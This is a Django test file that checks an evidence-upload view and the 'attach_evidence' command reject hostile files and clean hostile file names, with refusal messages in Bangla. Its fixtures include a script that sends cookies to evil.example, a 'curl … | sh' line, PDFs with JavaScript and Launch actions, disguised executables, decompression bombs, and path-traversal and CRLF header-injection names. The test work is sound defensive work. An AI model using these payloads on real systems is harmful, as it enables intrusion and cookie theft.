"""Hostile evidence files (DESIGN.md §5, issue 5): refused by content, whatever their names, in Bangla, with
nothing left behind — through the browser's upload view and through ``attach_evidence`` alike.

Every file is built here: executables and scripts under document names, HTML and SVG under PDF and PNG
names, polyglots, encrypted, truncated, scripted and oversize PDFs, decompression bombs. Each refused file
must leave no Evidence row, no stored file, no history entry and no temporary upload file. Accepted files
with hostile names must be stored under a random name, shown under a cleaned name and downloaded as an
attachment of the type their content has, with ``nosniff``, only by those who may see them.
"""

from __future__ import annotations

import hashlib
import io
import re
import struct
import unicodedata
import zlib
from pathlib import Path
from urllib.parse import quote

import pytest
from django.conf import settings as django_settings
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client
from PIL import Image

from evidence.models import Evidence
from evidence.validators import EvidenceRejected, check_evidence_bytes, sanitize_filename
from evidence.views import content_disposition
from indicators.models import HistoryEntry, HistoryKind
from tests import files
from tests.files import image_bytes as _image
from tests.files import pdf_bytes as _pdf
from tests.files import zip_bytes as _zip

OFFICE, YEAR, CODE = "mofa", "2022-23", "1.2.2"
UPLOAD_URL = f"/plans/{OFFICE}/{YEAR}/indicators/{CODE}/evidence/"
PAGE_URL = f"/plans/{OFFICE}/{YEAR}/indicators/{CODE}/"
MAX_BYTES = 64 * 1024
BOUNDARY = "----apa-test-boundary-7MA4YWxkTrZu0gW"
STORED_NAME = re.compile(r"^evidence/[0-9a-f]{4}/[A-Za-z0-9_-]{32}\.(pdf|jpg|png)$")


# --- building files --------------------------------------------------------------------------------


def _mpo() -> bytes:
    """A JPEG with a multi-picture index, as many cameras write: Pillow opens it as "MPO"."""
    buffer = io.BytesIO()
    first, second = Image.new("RGB", (40, 30), "red"), Image.new("RGB", (40, 30), "blue")
    first.save(buffer, "MPO", save_all=True, append_images=[second])
    return buffer.getvalue()


def _pdf_from_objects(objects: list[bytes]) -> bytes:
    """A PDF written by hand: object 1 is the catalog, with a classic cross-reference table."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


PAGES = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
]


def _pdf_with_catalog(catalog_extra: bytes, *extra_objects: bytes) -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>"
    return _pdf_from_objects([catalog, *PAGES, *extra_objects])


def _pdf_javascript() -> bytes:
    return _pdf_with_catalog(
        b"/OpenAction 4 0 R", b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
    )


def _pdf_launch() -> bytes:
    return _pdf_with_catalog(b"/OpenAction << /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) >>")


def _pdf_attachment() -> bytes:
    payload = b"MZ\x90\x00 an executable"
    return _pdf_with_catalog(
        b"/Names << /EmbeddedFiles << /Names [(setup.exe) 4 0 R] >> >>",
        b"<< /Type /Filespec /F (setup.exe) /EF << /F 5 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length %d >>\nstream\n%b\nendstream" % (len(payload), payload),
    )


def _pdf_hidden_javascript() -> bytes:
    """JavaScript no byte search finds: the action sits compressed in an object stream, its names written
    with ``#`` escapes (``/J#61vaScript`` is ``/JavaScript``), found through a cross-reference stream."""
    action = b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
    header = b"5 0 "
    packed = zlib.compress(header + action)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        *PAGES,
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream"
        % (len(header), len(packed), packed),
    ]
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    xref_offset = len(out)
    rows = [(0, 0, 65535), *((1, offset, 0) for offset in offsets), (2, 4, 0), (1, xref_offset, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%b\nendstream\nendobj\n"
        % (len(table), table)
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_header_only(width: int, height: int) -> bytes:
    """A tiny PNG that claims a huge picture: a decompression bomb's header (1 bit per pixel)."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + _png_chunk(b"IEND", b"")
    )


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
MZ = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
    + b"\x00" * 50
    + b"This program cannot be run in DOS mode."
)
HTML = (
    b"<!DOCTYPE html><html><body><script>document.location='https://evil.example/?'+document.cookie</script>"
)
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'

# Each refused file: (name it is uploaded under, its bytes, words of the Bangla reason).
NOT_EVIDENCE = "শুধু PDF, JPEG বা PNG"
DAMAGED = "ভাঙা বা অসম্পূর্ণ"
ATTACHED = "সংযুক্ত ফাইল (attachment)"
SCRIPT = "স্ক্রিপ্ট (JavaScript)"
REMOTE = "অন্য ফাইল বা নেটওয়ার্কের ঠিকানা খোলার নির্দেশ (GoToR)"
OPENS_WEB = "নিজে থেকে ওয়েব ঠিকানা খোলার নির্দেশ (URI)"
REFUSED = {
    "elf-named-pdf": ("report.pdf", ELF, NOT_EVIDENCE),
    "elf-named-png": ("photo.png", ELF, NOT_EVIDENCE),
    "mz-named-pdf": ("invoice.pdf", MZ, NOT_EVIDENCE),
    "mz-named-jpg": ("photo.jpg", MZ, NOT_EVIDENCE),
    "shell-script-named-pdf": ("minutes.pdf", b"#!/bin/sh\ncurl https://evil.example/x | sh\n", NOT_EVIDENCE),
    "html-named-pdf": ("report.pdf", HTML, NOT_EVIDENCE),
    "html-named-png": ("photo.png", HTML, NOT_EVIDENCE),
    "svg-named-pdf": ("drawing.pdf", SVG, NOT_EVIDENCE),
    "svg-named-png": ("drawing.png", SVG, NOT_EVIDENCE),
    "zip-named-pdf": ("archive.pdf", _zip({"a.txt": b"x"}), NOT_EVIDENCE),
    "html-with-pdf-header-inside": (
        "report.pdf",
        HTML + b"\n%PDF-1.4\n" + _pdf(),
        "PDF-এর আগে অন্য ধরনের লেখা",
    ),
    "pdf-with-zip-appended": ("report.pdf", _pdf() + _zip({"evil.html": HTML}), "%%EOF) এর পরে অন্য তথ্য"),
    "png-with-html-appended": ("photo.png", _image("PNG") + HTML, "শেষে অন্য তথ্য জোড়া আছে"),
    "encrypted-pdf": ("secret.pdf", _pdf(2, password="gopon"), "এনক্রিপশন"),
    "truncated-pdf": ("cut.pdf", _pdf(3)[:-300], DAMAGED),
    "truncated-png": ("cut.png", _image("PNG")[:60], DAMAGED),
    "truncated-jpeg": ("cut.jpg", _image("JPEG", (200, 150))[:-400], DAMAGED),
    "pdf-with-javascript": ("form.pdf", _pdf_javascript(), "JavaScript"),
    "pdf-with-hidden-javascript": ("form.pdf", _pdf_hidden_javascript(), "JavaScript"),
    "pdf-with-launch-action": ("open.pdf", _pdf_launch(), "Launch"),
    "pdf-with-attached-executable": ("files.pdf", _pdf_attachment(), "সংযুক্ত ফাইল"),
    # Issue 11: files and actions found by walking the objects, wherever they hide.
    "pdf-with-file-attachment-annotation": (
        "scan.pdf",
        files.pdf_with_file_attachment_annotation(),
        ATTACHED,
    ),
    "pdf-with-embedded-file-in-nested-dictionary": (
        "scan.pdf",
        files.pdf_with_nested_embedded_file(),
        ATTACHED,
    ),
    "pdf-with-embedded-files-tree-with-kids": ("scan.pdf", files.pdf_with_embedded_files_tree(), ATTACHED),
    "pdf-launching-on-open": ("scan.pdf", files.pdf_with_open_action(files.LAUNCH_ACTION), "(Launch)"),
    "pdf-with-link-to-network-share": ("scan.pdf", files.pdf_with_link(files.REMOTE_GOTO_ACTION), REMOTE),
    "pdf-opening-a-web-address": ("scan.pdf", files.pdf_with_open_action(files.URI_ACTION), OPENS_WEB),
    "pdf-page-opening-a-web-address": (
        "scan.pdf",
        files.pdf_with_page_open_action(files.URI_ACTION),
        OPENS_WEB,
    ),
    "pdf-with-javascript-bookmark": (
        "scan.pdf",
        files.pdf_with_outline_action(files.JAVASCRIPT_ACTION),
        SCRIPT,
    ),
    "pdf-with-javascript-link": ("scan.pdf", files.pdf_with_link(files.JAVASCRIPT_ACTION), SCRIPT),
    "pdf-with-javascript-link-in-object-stream": (
        "scan.pdf",
        files.pdf_with_link(
            files.JAVASCRIPT_ACTION.replace(b"/JavaScript", b"/J#61vaScript"), compressed=True
        ),
        SCRIPT,
    ),
    "pdf-with-xfa-form": ("scan.pdf", files.pdf_with_xfa(), "XFA ফর্ম"),
    "pdf-with-cyclic-action-chain": (
        "scan.pdf",
        files.pdf_with_action_cycle(files.REMOTE_GOTO_ACTION),
        REMOTE,
    ),
    "zero-bytes": ("empty.pdf", b"", "ফাইলটি খালি"),
    "decompression-bomb-png": ("bomb.png", _png_header_only(100_000, 100_000), "মেগাপিক্সেল"),
    "sixty-megapixel-png": ("huge.png", _png_header_only(10_000, 6_000), "মেগাপিক্সেল"),
    "pdf-named-exe-but-broken": ("setup.exe", b"%PDF-1.7\n" + MZ, DAMAGED),
}


# --- the browser: a multipart body exactly as sent, names verbatim ----------------------------------


def _multipart(
    name: str, data: bytes, *, title: str = "হুমকির পরীক্ষা", quarter: str = "1", files: int = 1
) -> bytes:
    """A multipart body as a browser sends it, with the file name byte for byte (Django's test client
    would strip directories from it before sending)."""
    parts = [
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="title"\r\n\r\n{title}\r\n'.encode(),
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="quarter"\r\n\r\n{quarter}\r\n'.encode(),
    ]
    for _ in range(files):
        parts.append(
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="'.encode()
            + name.encode("utf-8", "surrogatepass")
            + b'"\r\nContent-Type: application/octet-stream\r\n\r\n'
            + data
            + b"\r\n"
        )
    parts.append(f"--{BOUNDARY}--\r\n".encode())
    return b"".join(parts)


def _post(
    client: Client, name: str, data: bytes, *, follow: bool = False, headers: dict | None = None, **fields
):
    body = _multipart(name, data, **fields)
    content_type = f"multipart/form-data; boundary={BOUNDARY}"
    return client.post(UPLOAD_URL, body, content_type=content_type, follow=follow, **(headers or {}))


def _user(username: str):
    return get_user_model().objects.get(username=username)


def _stored_files() -> list[Path]:
    root = Path(django_settings.STORAGES["default"]["OPTIONS"]["location"])
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def _temporary_uploads() -> list[Path]:
    return sorted(Path(django_settings.FILE_UPLOAD_TEMP_DIR).iterdir())


def _body(response) -> bytes:
    return b"".join(response.streaming_content)


def _assert_nothing_kept(files_before: list[Path]) -> None:
    assert not Evidence.objects.exists()
    assert _stored_files() == files_before
    assert not HistoryEntry.objects.filter(kind=HistoryKind.EVIDENCE_ADDED).exists()
    assert _temporary_uploads() == []


@pytest.fixture(autouse=True)
def _small_limits(settings, tmp_path):
    """A 64 KiB evidence limit, and every upload over 1 KiB spooled to a temporary folder of the test's own
    (Django's default is memory up to 2.5 MB), so that leftover temporary files would show."""
    settings.EVIDENCE_MAX_BYTES = MAX_BYTES
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1024
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path / "upload-tmp")
    (tmp_path / "upload-tmp").mkdir()


@pytest.fixture
def officer(client, demo):
    client.force_login(_user("mofa.officer"))
    return client


# --- refused through the browser ---------------------------------------------------------------------


@pytest.mark.parametrize("case", list(REFUSED))
def test_hostile_upload_is_refused_in_bangla_and_leaves_nothing(officer, case):
    """The upload view refuses each hostile file: back to the indicator page (not to the new file) with the
    Bangla reason, and no row, stored file, history entry or temporary file remains."""
    name, data, reason = REFUSED[case]
    files_before = _stored_files()
    response = _post(officer, name, data)
    assert response.status_code == 302
    assert response["Location"] == PAGE_URL
    page = officer.get(response["Location"]).content.decode()
    assert reason in page
    _assert_nothing_kept(files_before)


@pytest.mark.parametrize("case", ["elf-named-pdf", "html-with-pdf-header-inside", "pdf-with-javascript"])
def test_hostile_upload_by_htmx_shows_the_reason_beside_the_form(officer, case):
    """With htmx the refusal comes back in the evidence panel (status 200), marked as an alert."""
    name, data, reason = REFUSED[case]
    response = _post(officer, name, data, headers={"HTTP_HX_REQUEST": "true"})
    assert response.status_code == 200
    body = response.content.decode()
    assert 'role="alert"' in body and reason in body
    _assert_nothing_kept([])


def test_file_one_byte_over_the_limit_is_refused(officer):
    """EVIDENCE_MAX_BYTES + 1 bytes (a real PDF, padded) is refused with the limit in Bangla digits."""
    data = _pdf() + b"\n" * (MAX_BYTES + 1 - len(_pdf()))
    assert len(data) == MAX_BYTES + 1
    response = _post(officer, "big.pdf", data, follow=True)
    assert "ফাইলটি অনেক বড়: সর্বোচ্চ ৬৪ KB গ্রহণযোগ্য।" in response.content.decode()
    _assert_nothing_kept([])


def test_oversize_file_is_never_kept_whole(officer, received_chunks):
    """The size limit acts while the upload arrives: the temporary file never receives more than
    EVIDENCE_MAX_BYTES of an oversize upload, and is gone afterwards."""
    response = _post(officer, "big.pdf", b"%PDF-1.4\n" + b"0" * (MAX_BYTES + 32 * 1024), follow=True)
    assert "ফাইলটি অনেক বড়" in response.content.decode()
    assert 0 < sum(received_chunks) <= MAX_BYTES
    _assert_nothing_kept([])


def test_body_declared_too_large_is_refused_without_reading_it(officer):
    """A request whose Content-Length is over the limit is refused before a byte of its body is read (the
    test client's payload would fail loudly if the view read past what it holds)."""
    body = _multipart("big.pdf", _pdf())
    response = officer.post(
        UPLOAD_URL,
        body,
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
        CONTENT_LENGTH=str(50 * 1024 * 1024),
    )
    assert response.status_code == 302
    assert "ফাইলটি অনেক বড়" in officer.get(response["Location"]).content.decode()
    _assert_nothing_kept([])


def test_more_files_than_allowed_in_one_upload_are_all_refused(officer, settings):
    """An upload carrying more than EVIDENCE_MAX_FILES files is refused whole, nothing kept."""
    settings.EVIDENCE_MAX_FILES = 3
    response = _post(officer, "a.pdf", _pdf(), files=4, follow=True)
    assert "একবারে সর্বোচ্চ ৩টি ফাইল দিন।" in response.content.decode()
    _assert_nothing_kept([])


def _multipart_files(files: list[tuple[str, bytes]], *, title: str = "", quarter: str = "1") -> bytes:
    parts = [
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="title"\r\n\r\n{title}\r\n'.encode(),
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="quarter"\r\n\r\n{quarter}\r\n'.encode(),
    ]
    for name, data in files:
        parts.append(
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n'.encode()
            + b"Content-Type: application/octet-stream\r\n\r\n"
            + data
            + b"\r\n"
        )
    parts.append(f"--{BOUNDARY}--\r\n".encode())
    return b"".join(parts)


def test_several_files_each_checked_on_its_own_with_an_error_per_file(officer, demo):
    """Three files in one upload: a PDF, one over the size limit (dropped while it arrives, after the first
    was kept whole) and a fake PDF: the good ones are kept with titles from their names, each refusal is
    reported with its file's name, and nothing of the refused ones is stored."""
    big = _pdf() + b"\n" * (MAX_BYTES + 10 - len(_pdf()))
    files = [("আদেশ.pdf", _pdf()), ("big.pdf", big), ("fake.pdf", b"not a pdf at all"), ("ছবি.pdf", _pdf())]
    body = _multipart_files(files)
    response = officer.post(
        UPLOAD_URL, body, content_type=f"multipart/form-data; boundary={BOUNDARY}", HTTP_HX_REQUEST="true"
    )
    html = response.content.decode()
    kept = Evidence.objects.filter(indicator__plan=demo).order_by("position")
    assert [e.title for e in kept] == ["আদেশ", "ছবি"]
    assert all(e.quarter == 1 for e in kept)
    assert "big.pdf</strong>: ফাইলটি অনেক বড়" in html
    assert "fake.pdf</strong>:" in html
    assert "প্রমাণক “আদেশ” যুক্ত হয়েছে।" in html and "প্রমাণক “ছবি” যুক্ত হয়েছে।" in html
    assert len(_stored_files()) == 2


def test_another_office_cannot_upload_even_a_valid_file(client, demo):
    """An officer of another ministry gets 404 from the upload view and nothing is kept."""
    client.force_login(_user("msw.officer"))
    assert _post(client, "a.pdf", _pdf()).status_code == 404
    _assert_nothing_kept([])


# --- refused through attach_evidence -------------------------------------------------------------------


def _attach(path: Path, **options) -> str:
    out = io.StringIO()
    options = {"office": OFFICE, "year": YEAR, "indicator": CODE, "title": "হুমকির পরীক্ষা", **options}
    call_command("attach_evidence", str(path), stdout=out, stderr=io.StringIO(), **options)
    return out.getvalue()


@pytest.mark.parametrize("case", list(REFUSED))
def test_hostile_file_is_refused_by_attach_evidence_with_exit_status_1(demo, tmp_path, case):
    """attach_evidence refuses each hostile file with a CommandError (exit status 1) giving the Bangla
    reason; nothing is written."""
    name, data, reason = REFUSED[case]
    source = tmp_path / "incoming" / name
    source.parent.mkdir()
    source.write_bytes(data)
    with pytest.raises(CommandError) as caught:
        _attach(source)
    assert caught.value.returncode == 1
    assert reason in str(caught.value)
    _assert_nothing_kept([])


def test_attach_evidence_refuses_an_oversize_file_before_reading_it(demo, tmp_path):
    """A file over the limit is refused from its size on disk; a device that never ends is refused too."""
    big = tmp_path / "big.pdf"
    big.write_bytes(b"%PDF-1.4\n" + b"0" * MAX_BYTES)
    with pytest.raises(CommandError, match="ফাইলটি অনেক বড়"):
        _attach(big)
    with pytest.raises(CommandError, match="সাধারণ ফাইল নয়"):
        _attach(Path("/dev/zero"))
    with pytest.raises(CommandError, match="সাধারণ ফাইল নয়"):
        _attach(tmp_path)
    _assert_nothing_kept([])


def test_attach_evidence_refuses_a_path_with_a_nul_byte(demo, tmp_path):
    """No file name holds a NUL byte: such a path is refused with a message, not a traceback."""
    with pytest.raises(CommandError, match="সাধারণ ফাইল নয়"):
        _attach(tmp_path / "evil\x00.pdf")
    _assert_nothing_kept([])


# --- accepted by content, whatever the name says -------------------------------------------------------


def _download(client: Client, evidence: Evidence):
    response = client.get(f"/evidence/{evidence.pk}/download/")
    assert response.status_code == 200
    return response, _body(response)


@pytest.mark.parametrize(
    ("name", "data", "content_type", "download_name"),
    [
        ("scan.png", _pdf(2), "application/pdf", "scan.pdf"),
        ("scan.pdf", _image("PNG"), "image/png", "scan.png"),
        ("photo.pdf", _image("JPEG"), "image/jpeg", "photo.jpg"),
        ("camera.jpg", _mpo(), "image/jpeg", "camera.jpg"),
    ],
    ids=["pdf-named-png", "png-named-pdf", "jpeg-named-pdf", "camera-jpeg-with-mpf"],
)
def test_mislabelled_file_is_kept_and_served_as_what_it_is(officer, name, data, content_type, download_name):
    """The content decides the type: stored under a random name with the content's extension, downloaded
    as an attachment with the content's type and extension, nosniff, the exact bytes."""
    assert _post(officer, name, data)["Location"] == f"{PAGE_URL}#evidence"
    evidence = Evidence.objects.get()
    assert evidence.content_type == content_type
    assert STORED_NAME.match(evidence.file.name)
    assert evidence.file.name.endswith("." + download_name.rpartition(".")[2])
    response, body = _download(officer, evidence)
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="{download_name}"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert body == data and hashlib.sha256(body).hexdigest() == evidence.sha256
    assert _temporary_uploads() == []


HOSTILE_NAMES = [
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("..\\..\\win.ini.pdf", "win.ini.pdf"),
    ("/etc/cron.d/job.pdf", "job.pdf"),
    ("C:\\Windows\\System32\\drivers\\etc\\hosts.pdf", "hosts.pdf"),
    ("evil\u202efdp.exe", "evilfdp.exe"),
    ("evil\x00.pdf", "evil.pdf"),
    ("...hidden.pdf", "hidden.pdf"),
    ("..", "file"),
]


@pytest.mark.parametrize(("name", "shown"), HOSTILE_NAMES, ids=[shown for _n, shown in HOSTILE_NAMES])
def test_hostile_names_are_cleaned_and_never_reach_the_stored_path(officer, name, shown):
    """A valid PDF under a path-traversal, absolute, drive, bidi-override or NUL name is stored under a
    random name; the name shown is the cleaned last component, and the download adds the real extension."""
    response = _post(officer, name, _pdf())
    if shown == "file":  # ".." is no file name at all: the browser form is told a file is missing
        assert response["Location"] == PAGE_URL
        assert not Evidence.objects.exists()
        return
    evidence = Evidence.objects.get()
    assert STORED_NAME.match(evidence.file.name)
    stored = _stored_files()
    assert len(stored) == 1 and stored[0].is_relative_to(django_settings.PRIVATE_FILES_ROOT)
    assert evidence.original_name == shown
    disposition = _download(officer, evidence)[0]["Content-Disposition"]
    expected = shown if shown.endswith(".pdf") else f"{shown}.pdf"
    assert disposition == f'attachment; filename="{expected}"'


def test_another_office_gets_404_for_the_download(client, demo):
    """The download of an accepted file answers 404 to another ministry's officer, 200 to the office's own."""
    client.force_login(_user("mofa.officer"))
    _post(client, "../../order.pdf", _pdf())
    evidence = Evidence.objects.get()
    client.force_login(_user("msw.officer"))
    assert client.get(f"/evidence/{evidence.pk}/download/").status_code == 404
    client.force_login(_user("mofa.officer"))
    _download(client, evidence)


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\win.ini.pdf", "win.ini.pdf"),
        ("evil\u202efdp.exe", "evilfdp.exe"),
        ("a\r\nSet-Cookie: session=stolen.pdf", "a Set-Cookie: session=stolen.pdf"),
        ('say "hi".pdf', 'say "hi".pdf'),
    ],
    ids=["traversal", "backslashes", "rtl-override", "crlf", "quotes"],
)
def test_attach_evidence_reads_the_operators_path_but_keeps_a_random_name(demo, tmp_path, name, shown):
    """attach_evidence reads whatever path the operator gives (it is their own file); the stored name is
    random and the name shown is cleaned of directories, bidi overrides and line breaks."""
    folder = tmp_path / "in" / "sub"
    folder.mkdir(parents=True)
    if name.startswith("../../"):
        (tmp_path / "etc").mkdir()
        (tmp_path / "etc" / "passwd.pdf").write_bytes(_pdf())
        path = Path(f"{folder}/../../etc/passwd.pdf")
    else:
        path = folder / name
        path.write_bytes(_pdf())
    _attach(path, title="শিরোনাম\u202e\r\n  দ্বিতীয় লাইন\x00")
    evidence = Evidence.objects.get()
    assert STORED_NAME.match(evidence.file.name)
    assert evidence.original_name == shown
    assert evidence.title == "শিরোনাম দ্বিতীয় লাইন"


# --- the name in Content-Disposition ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        'say "hi".pdf',
        "a\r\nSet-Cookie: session=stolen.pdf",
        "back\\slash.pdf",
        "সভার কার্যবিবরণী ২০২৩.pdf",
        "র\u200d্যাব প্রতিবেদন.pdf",
    ],
)
def test_content_disposition_is_one_safe_header_line(name):
    """Quotes, backslashes and line breaks never reach the header raw: such names and Bangla ones are sent
    percent-encoded as RFC 5987 filename*, with a plain ASCII fallback."""
    header = content_disposition(name)
    assert "\r" not in header and "\n" not in header
    assert header.startswith("attachment; filename=\"evidence.pdf\"; filename*=UTF-8''")
    quoted = header.split("filename*=UTF-8''", 1)[1]
    assert re.fullmatch(r"[A-Za-z0-9%._~!*'()-]+", quoted)


def test_download_of_a_name_with_quotes_and_line_breaks_is_safe(officer):
    """A name with HTML-escaped quotes and line breaks in the upload (Django unescapes them) downloads with
    a single, encoded Content-Disposition line and no injected header."""
    _post(officer, "say &quot;hi&quot;&#13;&#10;Set-Cookie: a=b.pdf", _pdf())
    evidence = Evidence.objects.get()
    assert "\r" not in evidence.original_name and "\n" not in evidence.original_name
    response, _data = _download(officer, evidence)
    assert "Set-Cookie" not in response.headers
    disposition = response["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition
    assert disposition.startswith("attachment; filename=\"evidence.pdf\"; filename*=UTF-8''say%20%22hi%22")


def test_bangla_name_is_kept_in_nfc(officer):
    """A Bangla name that arrives decomposed (as macOS writes it) is stored in NFC and downloads in RFC 5987
    form. (Django drops invisible characters such as the zero-width joiner from uploaded names.)"""
    name = unicodedata.normalize("NFD", "বোর্ডের প্রতিবেদন ২০২৩.pdf")  # ো decomposes
    assert name != unicodedata.normalize("NFC", name)
    _post(officer, name, _pdf())
    evidence = Evidence.objects.get()
    assert evidence.original_name == unicodedata.normalize("NFC", name)
    disposition = _download(officer, evidence)[0]["Content-Disposition"]
    assert disposition.endswith(quote(unicodedata.normalize("NFC", name), safe=""))


def test_attach_evidence_keeps_the_joiners_bangla_spelling_needs(demo, tmp_path):
    """The zero-width joiner of র‍্যাব is part of the word: the cleaned title and name keep it, while bidi
    overrides around it go."""
    source = tmp_path / "র\u200d্যাব প্রতিবেদন.pdf"
    source.write_bytes(_pdf())
    _attach(source, title="\u202bর\u200d্যাবের প্রতিবেদন\u202c")
    evidence = Evidence.objects.get()
    assert evidence.original_name == "র\u200d্যাব প্রতিবেদন.pdf"
    assert evidence.title == "র\u200d্যাবের প্রতিবেদন"


# --- the rules themselves ----------------------------------------------------------------------------------


def test_pixel_limit_comes_from_the_settings(demo, settings, tmp_path):
    """EVIDENCE_MAX_PIXELS decides: a 200 × 100 photo is refused under a 10 000-pixel limit, accepted at
    20 000."""
    source = tmp_path / "photo.png"
    source.write_bytes(_image("PNG", (200, 100)))
    settings.EVIDENCE_MAX_PIXELS = 10_000
    with pytest.raises(CommandError, match="মেগাপিক্সেল"):
        _attach(source)
    settings.EVIDENCE_MAX_PIXELS = 20_000
    _attach(source)
    assert Evidence.objects.get().content_type == "image/png"


def test_jpeg_with_data_after_its_end_is_accepted_as_a_jpeg():
    """JPEG keeps what follows its end marker (cameras store a second picture there); it is only ever
    served as image/jpeg."""
    data = _image("JPEG") + _zip({"x.txt": b"x"})
    assert check_evidence_bytes(data, max_bytes=MAX_BYTES).content_type == "image/jpeg"


def test_pdf_with_blank_bytes_before_its_header_is_accepted():
    """Whitespace or a BOM before %PDF- (some scanners write them) is not a polyglot."""
    for prefix in (b"\r\n", b"\xef\xbb\xbf", b"\x00\x00 "):
        assert check_evidence_bytes(prefix + _pdf(), max_bytes=MAX_BYTES).page_count == 1


def test_refusals_carry_english_as_well():
    """Every refusal has an English message beside the Bangla one."""
    for case, (_name, data, _reason) in REFUSED.items():
        with pytest.raises(EvidenceRejected) as caught:
            check_evidence_bytes(data, max_bytes=MAX_BYTES)
        assert caught.value.message_en, case
        assert any("\u0980" <= ch <= "\u09ff" for ch in caught.value.message_bn), case


@pytest.mark.parametrize(
    ("name", "cleaned"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:evil.pdf", "evil.pdf"),
        ("\u202e\u2066evil.pdf\u2069", "evil.pdf"),
        ("tab\there.pdf", "tab here.pdf"),
        (" . .pdf", "pdf"),
        ("x" * 300 + ".pdf", "x" * 196 + ".pdf"),
        ("", "file"),
    ],
)
def test_sanitize_filename(name, cleaned):
    """The name shown: last component, no controls or bidi marks, no leading dots, 200 characters with the
    extension kept."""
    assert sanitize_filename(name) == cleaned


def test_no_address_keeps_a_file_larger_than_the_largest_accepted_upload(settings, rf):
    """A file posted to any other address (here the sign-in page) is dropped while it arrives once it passes
    the site-wide ceiling, before any view or CSRF check runs; a small one still arrives."""
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.test.client import encode_multipart

    settings.EVIDENCE_MAX_BYTES = 2048
    settings.SHEET_MAX_BYTES = 1024

    def posted_files(size: int):
        body = encode_multipart("BoUnDaRy", {"file": SimpleUploadedFile("x.bin", b"a" * size)})
        request = rf.generic(
            "POST", "/accounts/login/", body, content_type="multipart/form-data; boundary=BoUnDaRy"
        )
        return request.FILES

    assert "file" in posted_files(2048)
    assert "file" not in posted_files(2049)


def test_pdf_with_ordinary_links_is_kept_by_the_upload_view_and_attach_evidence(officer, tmp_path):
    """Links to a web page, an e-mail address and a place in the file, a bookmark and an opening view run
    nothing and carry no file: the upload view and attach_evidence both keep such a PDF."""
    data = files.pdf_with_ordinary_links()
    assert _post(officer, "letter.pdf", data)["Location"] == f"{PAGE_URL}#evidence"
    source = tmp_path / "letter.pdf"
    source.write_bytes(data)
    _attach(source)
    assert [(e.original_name, e.page_count) for e in Evidence.objects.order_by("pk")] == [
        ("letter.pdf", 1)
    ] * 2
